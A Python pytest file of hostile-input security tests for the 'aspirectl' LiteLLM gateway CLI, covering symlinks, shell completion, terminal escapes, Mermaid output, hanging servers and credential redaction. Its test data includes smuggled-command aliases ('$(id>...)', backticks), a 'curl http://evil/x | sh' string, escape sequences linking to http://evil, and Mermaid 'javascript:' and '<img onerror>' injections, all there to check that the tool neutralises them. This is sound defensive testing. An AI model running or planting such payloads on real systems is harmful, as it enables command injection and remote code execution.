"""Hostile input, second round (#20): the surfaces added after the first attack run.

Export files, the sandbox's written catalog, strings read back from the gateway's database,
shell completion, the pictures and `usage` at scale. Each test reproduces the attack as it
was found (a planted symlink, another user's directory, a crafted DB row, a real zsh) and
checks the outcome: one clear line, the right exit code, nothing written where it must not be.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import psycopg
import pytest

from tests.conftest import SHIPPED_CHAINS, assert_one_line_error
from tests.test_completions import zsh_complete

NOBODY = 65534


def _as_other_user(path) -> None:
    """Make ``path`` belong to another user, as a directory in /tmp made by someone else would."""
    os.chown(path, NOBODY, NOBODY)


needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")


# --- 1. chains export --write: the custom provider file -----------------------------------------


def test_export_write_never_follows_a_symlink_at_the_provider_file(cli, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "gw"
    out.mkdir()
    (out / "aspirectl_code_assist.py").symlink_to(victim)
    result = cli("--chains", SHIPPED_CHAINS, "chains", "export", "--format", "litellm", "--write", out)
    assert result.code == 0, result.text
    assert victim.read_text() == "precious\n"  # the link was replaced, not written through
    provider = out / "aspirectl_code_assist.py"
    assert not provider.is_symlink()
    assert "class" in provider.read_text() and stat.S_IMODE(provider.stat().st_mode) == 0o644


# --- 2. sandbox --write-chains: another user's directory, planted links -------------------------


def _write_chains(directory):
    from aspirectl.catalog.loader import load_catalog
    from aspirectl.sandbox.app import Sandbox
    from aspirectl.sandbox.catalogue import SCENARIOS

    box = Sandbox(load_catalog(SHIPPED_CHAINS), SCENARIOS["seed"])
    return box.write_chains(directory)


@needs_root
def test_sandbox_refuses_a_directory_that_belongs_to_another_user(tmp_path):
    from aspirectl.errors import ConfigError

    theirs = tmp_path / "sb"
    theirs.mkdir(mode=0o755)
    _as_other_user(theirs)
    with pytest.raises(ConfigError, match="belongs to uid 65534"):
        _write_chains(theirs)
    assert list(theirs.iterdir()) == []  # nothing written there


def test_sandbox_refuses_a_directory_others_may_write_to(tmp_path):
    from aspirectl.errors import ConfigError

    shared = tmp_path / "sb"
    shared.mkdir()
    shared.chmod(0o777)
    with pytest.raises(ConfigError, match="other users may write"):
        _write_chains(shared)
    assert list(shared.iterdir()) == []


def test_sandbox_cli_refuses_another_users_directory_with_one_line(run_process, tmp_path):
    shared = tmp_path / "sb"
    shared.mkdir()
    shared.chmod(0o777)
    result = run_process("--chains", SHIPPED_CHAINS, "sandbox", "--write-chains", shared, timeout=30)
    assert result.code == 3, result.text
    assert "other users may write" in result.err and "Traceback" not in result.text


def test_sandbox_never_follows_links_at_its_file_names(tmp_path):
    directory = tmp_path / "sb"
    directory.mkdir(mode=0o700)
    victims = {}
    for name in ("upstreams.yaml", "credentials.env", "credentials.env.tmp", "gateway.env"):
        victim = tmp_path / f"victim-{name}"
        victim.write_text("precious\n")
        (directory / name).symlink_to(victim)
        victims[name] = victim
    creds = _write_chains(directory)
    for victim in victims.values():
        assert victim.read_text() == "precious\n"
    assert not creds.is_symlink() and stat.S_IMODE(creds.stat().st_mode) == 0o600
    assert "ASPIRECTL_SECRET_" in creds.read_text()
    assert not (directory / "upstreams.yaml").is_symlink()


def test_sandbox_creates_a_missing_directory_private(tmp_path):
    directory = tmp_path / "new" / "sb"
    _write_chains(directory)
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700


# --- 3. a key_alias from the DB never reaches a shell's eval ------------------------------------


@pytest.fixture
def pg_keys(cli, pg_url, monkeypatch):
    monkeypatch.setenv("ASPIRECTL_LITELLM_VERSION", "1.108.7")

    def run(*args):
        return cli("--chains", SHIPPED_CHAINS, "--db", pg_url, "keys", *args)

    run.url = pg_url
    return run


def test_a_hostile_key_alias_is_never_offered_to_zsh(pg_keys, tmp_path):
    # Typer escapes "$" as "\$" for zsh but not a backslash: an alias "zz\$(cmd)" becomes
    # "zz\\$(cmd)" and _arguments' own eval runs cmd (seen with the unfiltered completer).
    markers = [tmp_path / f"pwned-{i}" for i in range(3)]
    aliases = [f"zz\\$(id>{markers[0]})", f"zz$(id>{markers[1]})", f"zz`id>{markers[2]}`"]
    assert pg_keys("create", "postiz").code == 0
    for i, alias in enumerate(aliases):
        assert pg_keys("create", f"victim-{i}").code == 0
        with psycopg.connect(pg_keys.url, autocommit=True) as conn:
            conn.execute('UPDATE "LiteLLM_VerificationToken" SET key_alias = %s WHERE key_alias = %s',
                         (alias, f"victim-{i}"))
    listed = pg_keys("list")
    assert listed.code == 0, listed.text
    screen = zsh_complete("aspirectl keys rotate ", tabs=2)
    ran = [m.name for m in markers if m.exists()]
    assert ran == [], f"TAB ran a command from the gateway's DB: {ran}"
    assert "postiz" in screen and "zz" not in screen  # the honest consumer is still offered


def test_a_planted_consumer_cache_is_filtered_too(tmp_path):
    from aspirectl.cli import namecache
    from aspirectl.cli.completers import consumers

    cache = namecache.consumers_cache()
    cache.parent.mkdir(parents=True, mode=0o700)
    cache.write_text('["ok-agent", "zz$(touch /tmp/x)", "a;b", "tab\\there", "`id`"]')
    assert consumers(None, [], "") == ["ok-agent"]  # type: ignore[arg-type]


# --- 14. the operator's catalog under XDG_CONFIG_HOME must be the operator's own -----------------


def _xdg_catalog() -> Path:
    from aspirectl import paths

    own = paths.operator_chains()
    own.parent.mkdir(parents=True, exist_ok=True)
    shutil.copytree(SHIPPED_CHAINS, own)
    return own


def test_a_world_writable_operator_catalog_is_refused(cli):
    own = _xdg_catalog()
    os.chmod(own / "upstreams.yaml", 0o666)
    result = cli("chains", "list")
    assert result.code == 3, result.text
    assert_one_line_error(result)
    assert "other users may write to upstreams.yaml" in result.err


def test_a_world_writable_operator_catalog_directory_is_refused(cli):
    own = _xdg_catalog()
    os.chmod(own, 0o777)
    result = cli("probe", "-o", "nagios")
    assert result.code == 3, result.text
    assert "other users may write" in result.text


@needs_root
def test_an_operator_catalog_owned_by_another_user_is_refused(cli):
    own = _xdg_catalog()
    _as_other_user(own / "gpt.yaml")
    result = cli("chains", "list")
    assert result.code == 3, result.text
    assert "gpt.yaml belongs to uid 65534" in result.err


def test_an_operator_catalog_of_ones_own_is_used(cli):
    _xdg_catalog()
    result = cli("chains", "list", "-o", "json")
    assert result.code == 0, result.text
    assert "gpt-5.5" in result.out


def test_the_catalog_check_does_not_run_for_a_named_catalog(cli, tmp_path):
    named = tmp_path / "named"
    shutil.copytree(SHIPPED_CHAINS, named)
    os.chmod(named, 0o777)  # the operator named it: their choice, not a default picked up
    assert cli("--chains", named, "chains", "list").code == 0



# --- usage and keys over a hostile gateway DB (4, 5, 10, 11, 12, 13) ---------------------------

ESC = "\x1b]8;;http://evil/\x07click\x1b]8;;\x07\x1b[2J"
FORGED = "x\nASPIRECTL USAGE OK - forged\r\n"


def _spend_rows(url: str, rows: list[dict]) -> None:
    """Rows written the way LiteLLM's get_logging_payload writes them, with hostile values."""
    from datetime import UTC, datetime, timedelta

    from psycopg.types.json import Jsonb

    now = datetime.now(UTC).replace(tzinfo=None)
    with psycopg.connect(url, autocommit=True) as conn:
        for i, row in enumerate(rows):
            start = now - timedelta(minutes=5 + i)
            values = {"request_id": f"h{i}", "call_type": "acompletion", "api_key": row.get("api_key", ""),
                      "spend": row.get("spend", 0.0), "startTime": start,
                      "endTime": start + timedelta(milliseconds=100), "model": "m",
                      "model_id": row.get("model_id", ""), "model_group": row.get("model_group", ""),
                      "metadata": Jsonb(row.get("metadata", {})), "cache_hit": "False",
                      "status": row.get("status", "success")}
            names = ", ".join(f'"{n}"' for n in values)
            conn.execute(f'INSERT INTO "LiteLLM_SpendLogs" ({names}) VALUES '
                         f'({", ".join(["%s"] * len(values))})', list(values.values()))


def _usage(cli, url, *args):
    return cli("--db", url, "--chains", SHIPPED_CHAINS, "usage", "--since", "1h", *args)


def _one_error(result) -> None:
    """Notices (database: ...) may come first; then exactly one error line, no traceback."""
    assert "Traceback" not in result.text
    errors = [ln for ln in result.err.splitlines() if ln.startswith("aspirectl: error: ")]
    assert len(errors) == 1 and result.err.rstrip("\n").splitlines()[-1] == errors[0], result.err


def _no_control(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text, repr(text[:400])


def test_a_requested_group_that_is_no_alias_never_kills_usage(cli, pg_schema):
    url = pg_schema("0.4.110")
    ok = {"model_id": "gpt-5.5@openai-api", "model_group": "gpt-5.5@openai-api"}
    _spend_rows(url, [
        {**ok, "metadata": {"original_model_group": "gpt-5.5@openai-api"}},  # a hop group asked directly
        {**ok, "metadata": {"original_model_group": {"nested": ["object"]}}},
        {**ok, "metadata": {"original_model_group": "no-such-alias"}},
        {**ok, "metadata": ["not", "an", "object"]},
        {**ok, "metadata": "a string"},
        {"model_id": "x", "model_group": {"a": 1}.__repr__(), "status": "failure",
         "metadata": {"original_model_group": ["x"], "error_information": "not an object"}},
    ])
    for fmt in ("table", "json", "nagios", "prometheus"):
        result = _usage(cli, url, "-o", fmt)
        assert result.code == 0, (fmt, result.text)
        assert "Traceback" not in result.text and "internal error" not in result.text
    doc = json.loads(_usage(cli, url, "-o", "json").out)
    gpt = {a["alias"]: a for a in doc["aliases"]}["gpt-5.5"]
    assert gpt["served"] == 5 and gpt["hops"][0]["route"] == "chain"  # every row, under its alias
    assert doc["unattributed_failures"] == {"unknown": 1}
    graph = cli("--db", url, "--chains", SHIPPED_CHAINS, "chains", "graph", "--cached", "--usage", "1h")
    assert "internal error" not in graph.text and "Traceback" not in graph.text


def test_control_characters_from_the_db_never_reach_usage_output(cli, pg_schema):
    url = pg_schema("0.4.110")
    key = "a" * 64
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute('INSERT INTO "LiteLLM_VerificationToken" (token, key_name, key_alias, models, metadata) '
                     "VALUES (%s, %s, %s, '{}', '{}')", (key, f"sk-{ESC}", f"evil{FORGED}{ESC}"))
    _spend_rows(url, [
        {"api_key": key, "model_id": "gpt-5.5@openai-api", "model_group": "gpt-5.5",
         "metadata": {"original_model_group": "gpt-5.5"}},
        {"api_key": key, "status": "failure",
         "metadata": {"original_model_group": "gpt-5.5", "error_information": {"error_class": FORGED + ESC}}},
        {"api_key": key, "status": "failure", "metadata": {"error_information": {"error_class": FORGED}}},
        {"api_key": key, "model_id": f"rogue{FORGED}{ESC}", "model_group": "gpt-5.5",
         "metadata": {"original_model_group": "gpt-5.5"}},
    ])
    for args in (("-o", "table"), ("--by", "consumer"), ("-o", "nagios"), ("--by", "consumer", "-o", "nagios")):
        result = _usage(cli, url, *args)
        assert result.code == 0, result.text
        _no_control(result.text)
        forged = [ln for ln in result.out.splitlines() if ln.startswith("ASPIRECTL USAGE OK - forged")]
        assert forged == [], args
    nagios = _usage(cli, url, "-o", "nagios").out.splitlines()
    assert nagios[0].startswith("ASPIRECTL USAGE OK - ") and sum(ln.startswith("ASPIRECTL") for ln in nagios) == 1


def test_control_characters_from_the_db_never_reach_keys_output(cli, pg_schema, tmp_path):
    url = pg_schema("0.4.110")
    plaintext = "sk-" + "Q" * 22
    import hashlib

    token = hashlib.sha256(plaintext.encode()).hexdigest()
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute('INSERT INTO "LiteLLM_VerificationToken" (token, key_name, key_alias, models, metadata) '
                     "VALUES (%s, %s, %s, '{}', '{}')",
                     (token, f"sk-{ESC}", f"x; curl http://evil/x | sh {FORGED}{ESC}"))
    leaked = tmp_path / "leak.env"
    leaked.write_text(f"OPENAI_API_KEY={plaintext}\n")
    for args in (("list",), ("list", "--all"), ("show", "x"), ("scan", str(leaked))):
        result = cli("--db", url, "--chains", SHIPPED_CHAINS, "keys", *args)
        assert "Traceback" not in result.text and "internal error" not in result.text, result.text
        _no_control(result.text)
    scan = cli("--db", url, "--chains", SHIPPED_CHAINS, "keys", "scan", str(leaked))
    assert scan.code == 1 and "LIVE" in scan.out
    assert "aspirectl keys rotate" not in scan.err  # no copy-paste command carries the alias
    assert "under an alias that is no consumer name" in scan.err


def test_usage_is_bounded_by_its_output_not_by_distinct_values(pg_schema, tmp_path):
    """200,000 distinct keys and 100,000 deployments the chains do not know: aspirectl's
    memory and time stay those of a small log (measured in a child process of its own)."""
    url = pg_schema("0.4.110")
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute("""
            INSERT INTO "LiteLLM_SpendLogs" (request_id, call_type, api_key, spend, "startTime", "endTime",
                                             model, model_id, model_group, metadata, cache_hit, status)
            SELECT 'b' || g, 'acompletion', md5(g::text), 0.001, now() AT TIME ZONE 'UTC' - interval '5 minutes',
                   now() AT TIME ZONE 'UTC' - interval '4 minutes', 'm',
                   CASE WHEN g % 2 = 0 THEN 'rogue-' || (g / 2) ELSE 'gpt-5.5@openai-api' END,
                   'gpt-5.5', jsonb_build_object('original_model_group', 'gpt-5.5'), 'False', 'success'
            FROM generate_series(1, 200000) AS g""")
    probe = ("import resource, subprocess, sys, time\n"
             "t = time.monotonic()\n"
             "p = subprocess.run([sys.executable, '-m', 'aspirectl', *sys.argv[1:]], capture_output=True, text=True)\n"
             "print(p.returncode, len(p.stdout), time.monotonic() - t,\n"
             "      resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)\n"
             "sys.stderr.write(p.stderr)\n")
    for by in ("consumer", "hop"):
        out = subprocess.run([sys.executable, "-c", probe, "--db", url, "--chains", str(SHIPPED_CHAINS), "usage",
                              "--since", "1h", "--by", by, "-o", "json"], capture_output=True, text=True,
                             timeout=120, env={**os.environ})
        code, size, seconds, rss_mib = out.stdout.split()
        assert code == "0", out.stderr
        assert int(size) < 64_000, size  # 50 consumers or 50 deployments, not 100,000
        assert int(rss_mib) < 150, f"--by {by}: {rss_mib} MiB"
        assert float(seconds) < 30, seconds
    doc = json.loads(subprocess.run([sys.executable, "-m", "aspirectl", "--db", url, "--chains",
                                     str(SHIPPED_CHAINS), "usage", "--since", "1h", "--by", "consumer", "-o",
                                     "json"], capture_output=True, text=True, timeout=120).stdout)
    assert len(doc["consumers"]) <= 50 and doc["consumers_not_listed"]["keys"] == 200000 - 50
    assert doc["unknown_deployments_total"] == {"deployments": 100000, "requests": 100000,
                                                "list_spend": pytest.approx(100.0)}
    assert len(doc["unknown_deployments"]) == 50


def test_poisoned_numbers_and_values_read_as_nothing(cli, pg_schema):
    url = pg_schema("0.4.110")
    ok = {"model_id": "gpt-5.5@openai-api", "model_group": "gpt-5.5",
          "metadata": {"original_model_group": "gpt-5.5"}}
    _spend_rows(url, [{**ok, "spend": 0.5}, {**ok, "spend": float("nan")}, {**ok, "spend": float("inf")},
                      {**ok, "spend": -1e9}])
    doc = json.loads(_usage(cli, url, "-o", "json").out)
    gpt = {a["alias"]: a for a in doc["aliases"]}["gpt-5.5"]
    assert gpt["served"] == 4 and gpt["paid_spend"] == pytest.approx(0.5)
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute('INSERT INTO "LiteLLM_VerificationToken" (token, key_name, key_alias, models, metadata, '
                     "expires, spend, max_budget) VALUES ('t1', 'sk-...t1', 'forever', ARRAY['gpt-5.5', NULL], "
                     "'\"a string\"', 'infinity', 'NaN', '-Infinity')")
    listed = cli("--db", url, "--chains", SHIPPED_CHAINS, "keys", "list", "-o", "json")
    assert listed.code == 0, listed.text
    record = json.loads(listed.out)["keys"][0]
    assert record["models"] == ["gpt-5.5"] and record["metadata"] == {} and record["spend"] == 0
    assert record["expires"].startswith("9999-12-31")
    table = cli("--db", url, "--chains", SHIPPED_CHAINS, "keys", "list")
    assert table.code == 0 and "forever" in table.out
    created = cli("--db", url, "--chains", SHIPPED_CHAINS, "keys", "create", "forever-2")
    assert created.code == 0, created.text


@pytest.mark.parametrize("since", ["99999999999999d", "999999999999999999999999w"])
def test_a_huge_since_is_a_usage_error(cli, since):
    result = cli("--chains", SHIPPED_CHAINS, "usage", "--since", since)
    assert result.code == 3, result.text
    _one_error(result)
    assert "reaches before the year 1" in result.err


def test_a_held_lock_cannot_hang_usage_or_keys(run_process, pg_schema):
    url = pg_schema("0.4.110")
    env = {"ASPIRECTL_DB_TIMEOUT": "2", "ASPIRECTL_LITELLM_VERSION": "1.108.7"}
    holder = psycopg.connect(url)
    try:
        holder.execute('LOCK TABLE "LiteLLM_SpendLogs", "LiteLLM_VerificationToken" IN ACCESS EXCLUSIVE MODE')
        for args in (("usage",), ("keys", "list"), ("keys", "create", "someone")):
            import time

            started = time.monotonic()
            result = run_process("--db", url, "--chains", SHIPPED_CHAINS, *args, env=env, timeout=60)
            assert time.monotonic() - started < 20, args
            assert result.code in (1, 3), (args, result.text)  # usage: UNKNOWN; keys: operation failed
            _one_error(result)
            assert "within 2 s" in result.err, result.err
    finally:
        holder.close()


def test_a_recursive_view_cannot_hang_usage_on_sqlite(run_process, tmp_path):
    import sqlite3

    path = tmp_path / "gw.db"
    conn = sqlite3.connect(path)
    conn.executescript("""
        CREATE TABLE "LiteLLM_VerificationToken" (token TEXT PRIMARY KEY, key_alias TEXT, key_name TEXT);
        CREATE VIEW "LiteLLM_SpendLogs" AS
          WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r)
          SELECT 'x' || n AS request_id, '' AS api_key, 0.0 AS spend,
                 datetime('now', '-' || (n % 10) || ' minutes') AS "startTime",
                 datetime('now') AS "endTime", '' AS model_id, '' AS model_group, '{}' AS metadata,
                 'False' AS cache_hit, 'success' AS status FROM r;
    """)
    conn.close()
    import time

    started = time.monotonic()
    result = run_process("--db", f"sqlite:///{path}", "--chains", SHIPPED_CHAINS, "usage", "--since", "1h",
                         env={"ASPIRECTL_DB_TIMEOUT": "2"}, timeout=60)
    assert time.monotonic() - started < 20
    assert result.code == 3, result.text
    _one_error(result)
    assert "ran past 2 s" in result.err


@pytest.mark.parametrize("args", [("usage",), ("keys", "list")])
def test_read_only_commands_never_alter_an_unrelated_sqlite_file(cli, tmp_path, args):
    import hashlib
    import sqlite3

    path = tmp_path / "app.db"
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)")
    conn.execute("INSERT INTO notes (body) VALUES ('mine')")
    conn.commit()
    conn.close()
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    result = cli("--db", f"sqlite:///{path}", "--chains", SHIPPED_CHAINS, *args)
    assert result.code == 3, result.text
    _one_error(result)
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before
    tables = {r[0] for r in sqlite3.connect(path).execute("SELECT name FROM sqlite_master")}
    assert tables == {"notes"}


# --- a hostile gateway (6, 7, 8) ---------------------------------------------------------------


def _drip(conn) -> None:
    """Headers at once, then the body one byte every 0.3 s, for as long as the client listens."""
    import time

    conn.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n")
    for _ in range(400):
        conn.sendall(b" ")
        time.sleep(0.3)


@pytest.mark.parametrize("command", [("chains", "export", "--format", "litellm"),
                                     ("keys", "rotate", "postiz", "--grace", "1h")])
def test_a_dripping_readiness_answer_cannot_hang_export_or_rotate(cli, tmp_path, command):
    import time

    from tests.hostile import raw_server

    db = f"sqlite:///{tmp_path}/keys.db"
    assert cli("--db", db, "--chains", SHIPPED_CHAINS, "keys", "create", "postiz", "--create").code == 0
    with raw_server(_drip) as url:
        started = time.monotonic()
        result = cli("--gateway-url", url, "--db", db, "--chains", SHIPPED_CHAINS, *command)
        elapsed = time.monotonic() - started
    assert elapsed < 8, f"{command}: {elapsed:.1f}s"
    assert "internal error" not in result.text and "Traceback" not in result.text
    if command[0] == "chains":
        assert result.code == 0 and "model_list" in result.out


@pytest.mark.parametrize("version", ["1.80.0\x1b]8;;http://evil\x07", "1" * 5000 + ".1.1", "1.80.0\n1.0"],
                         ids=["osc", "5000 digits", "newline"])
def test_a_hostile_release_string_is_no_release(cli, version):
    from aspirectl.litellm.releases import DEFAULT_TARGET
    from aspirectl.sandbox.httpserver import Response
    from tests.hostile import http_server

    def answer(req):
        return Response(200, json.dumps({"status": "healthy", "db": "connected", "litellm_version": version}))

    with http_server(answer) as url:
        result = cli("-v", "--gateway-url", url, "--chains", SHIPPED_CHAINS, "chains", "export",
                     "--format", "litellm")
    assert result.code == 0, result.text
    _no_control(result.text)
    assert "internal error" not in result.err
    assert f"# For LiteLLM {DEFAULT_TARGET} " in result.out  # not the 1.80.0 the string starts with


def _canned_gateway(extra_header: bytes) -> bytes:
    body = b'{"status": "healthy", "db": "connected", "choices": []}'
    return (b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n"
            b"x-litellm-model-id: claude-haiku-4-5@anthropic-oauth\r\n"
            b"x-litellm-model-group: claude-haiku-4-5\r\n" + extra_header +
            b"content-length: " + str(len(body)).encode() + b"\r\nconnection: close\r\n\r\n" + body)


@pytest.mark.parametrize("header", [b"x-litellm-attempted-fallbacks: \xc2\xb2\r\n",
                                    b"x-litellm-attempted-fallbacks: \xff\xfe\x00\r\n",
                                    b"x-litellm-attempted-fallbacks: 99999999999999999999\r\n",
                                    b"x-litellm-model-id: \xff\x1b[2J\r\n"])
def test_an_undecodable_routing_header_is_that_aliases_problem(cli, tmp_path, monkeypatch, header):
    from tests.hostile import raw_server

    monkeypatch.setenv("ASPIRECTL_SECRET_GATEWAY_KEY", "sk-gateway-key-for-tests-0001")
    textfile = tmp_path / "aspirectl.prom"
    with raw_server(_canned_gateway(header)) as url:
        result = cli("--gateway-url", url, "--chains", SHIPPED_CHAINS, "probe", "--gateway",
                     "claude-haiku-4-5", "--timeout", "2", "--deadline", "5", "-o", "nagios",
                     "--textfile", textfile)
    assert "internal error" not in result.err, result.err
    first = result.out.splitlines()[0]
    # a NUL in a header is no HTTP h11 reads: the gateway does not answer, CRITICAL; otherwise
    # the direct probes (no credentials here) make the run UNKNOWN
    assert first.startswith("ASPIRECTL ") and result.code == (2 if b"\x00" in header else 3), (header, result.code)
    _no_control(result.out)
    assert f"aspirectl_status {result.code}" in textfile.read_text()


def test_a_password_in_the_gateway_url_is_never_shown(cli, tmp_path, monkeypatch):
    from tests.hostile import raw_server

    monkeypatch.setenv("ASPIRECTL_SECRET_GATEWAY_KEY", "sk-gateway-key-for-tests-0001")
    with raw_server(_canned_gateway(b"")) as url:
        shown = url.replace("http://", "http://operator:Hunter2-gw-pass@")
        page = tmp_path / "status.html"
        outputs = []
        for fmt in ("table", "json", "nagios"):
            result = cli("--gateway-url", shown, "--chains", SHIPPED_CHAINS, "probe", "--gateway",
                         "claude-haiku-4-5", "--timeout", "2", "--deadline", "5", "-o", fmt, "--html", page)
            # refused before anything is sent (httpx would send it as Basic in place of the key)
            assert result.code == 3 and "carries credentials" in result.text, result.text
            outputs.append(result.text)
        assert not page.exists()
        token = url.replace("http://", "http://tok-abcdefgh12345678@")
        outputs.append(cli("--gateway-url", token, "--chains", SHIPPED_CHAINS, "probe", "--gateway",
                           "claude-haiku-4-5", "--timeout", "2", "--deadline", "5").text)
        outputs.append(cli("--gateway-url", "ftp://operator:Hunter2-gw-pass@gw", "--chains", SHIPPED_CHAINS,
                           "probe", "--gateway").text)  # not even a URL of the gateway
    for text in outputs:
        assert "Hunter2-gw-pass" not in text and "tok-abcdefgh12345678" not in text
    assert "[redacted]@127.0.0.1" in outputs[0] and "is not a URL of the gateway" in outputs[-1]


# --- free text of chain files (9) and Mermaid ids (15) -------------------------------------------

MERMAID_ATTACK = ('Evil"]\n  click alias__qwen_h3_d6 "javascript:alert(1)"\n%%{init: {"securityLevel": "loose"}}%%\n'
                  '  fake["injected node"] --> alias__gpt_h5_d5\n<img src=x onerror=alert(1)> '
                  '\x1b]8;;http://evil/\x07osc\x1b]8;;\x07 `md` {curly} [square]')


def _hostile_catalog(tmp_path: Path) -> Path:
    import yaml

    target = tmp_path / "chains"
    shutil.copytree(SHIPPED_CHAINS, target)
    ups = yaml.safe_load((target / "upstreams.yaml").read_text())
    for spec in ups["upstreams"].values():
        spec["title"] = MERMAID_ATTACK
        spec["note"] = MERMAID_ATTACK
    (target / "upstreams.yaml").write_text(yaml.safe_dump(ups))
    qwen = yaml.safe_load((target / "qwen.yaml").read_text())
    qwen["title"] = MERMAID_ATTACK
    qwen["fallbacks"]["qwen-3.6-omni"]["reason"] = MERMAID_ATTACK
    qwen["fallbacks"]["qwen-3.6-omni"]["advice"] = MERMAID_ATTACK
    qwen["hops"][0]["state"]["qwen-3.6-omni"]["note"] = MERMAID_ATTACK
    (target / "qwen.yaml").write_text(yaml.safe_dump(qwen))
    return target


def test_chain_file_free_text_never_reaches_the_terminal_raw(cli, tmp_path):
    chains = _hostile_catalog(tmp_path)
    for name in ("qwen", "qwen-3.6-omni", "gpt"):
        result = cli("--chains", chains, "chains", "show", name)
        assert result.code == 0, result.text
        _no_control(result.out)
        assert not any(ln.lstrip().startswith(("click", "%%", "fake[")) for ln in result.out.splitlines())


def test_chain_file_free_text_cannot_inject_into_the_declared_mermaid(cli, tmp_path):
    from aspirectl.catalog.loader import load_catalog
    from aspirectl.graph import node_id
    from tests.test_pictures import render_in_mermaid

    chains = _hostile_catalog(tmp_path)
    result = cli("--chains", chains, "chains", "graph")
    assert result.code == 0, result.text
    text = result.out
    _no_control(text)
    for line in text.splitlines()[1:]:  # every line is one of the shapes the renderer writes
        assert re.fullmatch(r"  (subgraph \w+\[\".*\"\]|  \w+\(\[\".*\"\]\)|end|\w+\[\".*\"\]|"
                            r"\w+\{\{\"fail loudly\"\}\}|\w+ (-->|-\.->)(\|[\w -]+\|)? \w+)", line), line
    assert not any(ln.strip().startswith(("click", "%%", "fake")) for ln in text.splitlines())
    assert "%%{" not in text and "<img" not in text  # a directive or HTML only as inert label text
    rendered = render_in_mermaid(text, tmp_path)
    assert rendered["ok"], rendered.get("error")
    catalog = load_catalog(chains)
    expected = {node_id("alias", a) for a in catalog.aliases}
    ids = {i.removeprefix("g1-flowchart-").rsplit("-", 1)[0] for i, _ in rendered["nodes"]}
    assert {i for i in ids if i.startswith("alias__")} == expected  # no fake node
    svg = rendered["svg"]  # the attack is at most inert label text: no link, no element of its own
    assert "<a " not in svg and 'href="javascript' not in svg and "<img" not in svg


def test_mermaid_node_ids_never_collide():
    from aspirectl.graph import node_id

    names = ["gpt-5.5", "gpt-5-5", "gpt_5.5", "gpt_5_5", "gpt.5.5", "gpt5.5"]
    assert len({node_id("alias", n) for n in names}) == len(names)
    assert node_id("a_b", "c") != node_id("a", "b_c") != node_id("a", "b", "c")
    assert all(re.fullmatch(r"[A-Za-z0-9_]+", node_id("hop", n, "1", "x")) for n in [*names, "é", "日本"])


# --- secrets set, core dumps, proxies, names, URLs, echoed credentials (16-19) ----------------


def test_secrets_set_from_an_endless_stdin_is_refused_bounded(tmp_path):
    import time

    started = time.monotonic()
    with open("/dev/zero", "rb") as zero:
        proc = subprocess.run([sys.executable, "-m", "aspirectl", "--chains", str(SHIPPED_CHAINS), "secrets",
                               "set", "openai-api-key"], stdin=zero, capture_output=True, text=True, timeout=30)
    assert time.monotonic() - started < 10
    assert proc.returncode == 2, proc.stderr
    assert "longer than 64 KiB" in proc.stderr and "Traceback" not in proc.stderr


@pytest.mark.parametrize("value, why", [(b"abc\x00def", "control character"), (b"\xff\xfe", "not UTF-8"),
                                        (b"line1\nline2\n", "line break")])
def test_secrets_set_refuses_a_value_that_is_no_credential(value, why):
    proc = subprocess.run([sys.executable, "-m", "aspirectl", "--chains", str(SHIPPED_CHAINS), "secrets", "set",
                           "openai-api-key"], input=value, capture_output=True, timeout=30)
    assert proc.returncode == 2 and why in proc.stderr.decode()


def _core_limit(pid: int) -> str:
    limits = Path(f"/proc/{pid}/limits").read_text()
    return next(ln for ln in limits.splitlines() if ln.startswith("Max core file size"))


def test_no_core_dump_while_a_plaintext_is_in_memory(tmp_path):
    """secrets set blocks on stdin after its hardening: read its limits from /proc then."""
    import time

    proc = subprocess.Popen([sys.executable, "-m", "aspirectl", "--chains", str(SHIPPED_CHAINS), "secrets",
                             "set", "openai-api-key"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE)
    try:
        core = ""
        for _ in range(100):
            core = _core_limit(proc.pid)
            if core.split()[4:6] == ["0", "0"]:
                break
            time.sleep(0.05)
        assert core.split()[4:6] == ["0", "0"], core  # soft and hard core-file limits are 0
    finally:
        proc.stdin.close()  # an empty value: nothing is stored
        proc.wait(10)
    import ctypes

    from aspirectl.keys.tokens import mint
    from aspirectl.secrets.memory import PR_SET_DUMPABLE

    mint()  # in this process: minting a key turns dumping off
    libc = ctypes.CDLL(None, use_errno=True)
    assert libc.prctl(PR_SET_DUMPABLE - 1, 0, 0, 0, 0) == 0  # PR_GET_DUMPABLE = 3
    import resource

    assert resource.getrlimit(resource.RLIMIT_CORE) == (0, 0)


@pytest.mark.parametrize("variable, value, said", [
    ("HTTP_PROXY", "::bad::", "HTTP_PROXY='http://::bad::' is not a usable proxy URL"),
    ("ALL_PROXY", "socks5://127.0.0.1:1", "ALL_PROXY='socks5://127.0.0.1:1' is a SOCKS proxy"),
    ("https_proxy", "ftp://proxy:21", "https_proxy='ftp://proxy:21' is not a usable proxy URL"),
    ("HTTPS_PROXY", "http://user:Pr0xyPassw0rd@[::1", "fix or unset HTTPS_PROXY"),
])
def test_a_bad_proxy_variable_is_one_unknown_line_naming_it(run_process, variable, value, said):
    env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
    env[variable] = value
    proc = subprocess.run([sys.executable, "-m", "aspirectl", "--chains", str(SHIPPED_CHAINS), "probe", "gpt-5.5",
                           "-o", "nagios"], capture_output=True, text=True, env=env, timeout=60)
    assert proc.returncode == 3, proc.stderr
    assert said in proc.stderr and "internal error" not in proc.stderr
    assert "Pr0xyPassw0rd" not in proc.stderr + proc.stdout


@pytest.mark.parametrize("field", ["alias", "upstream", "credential"])
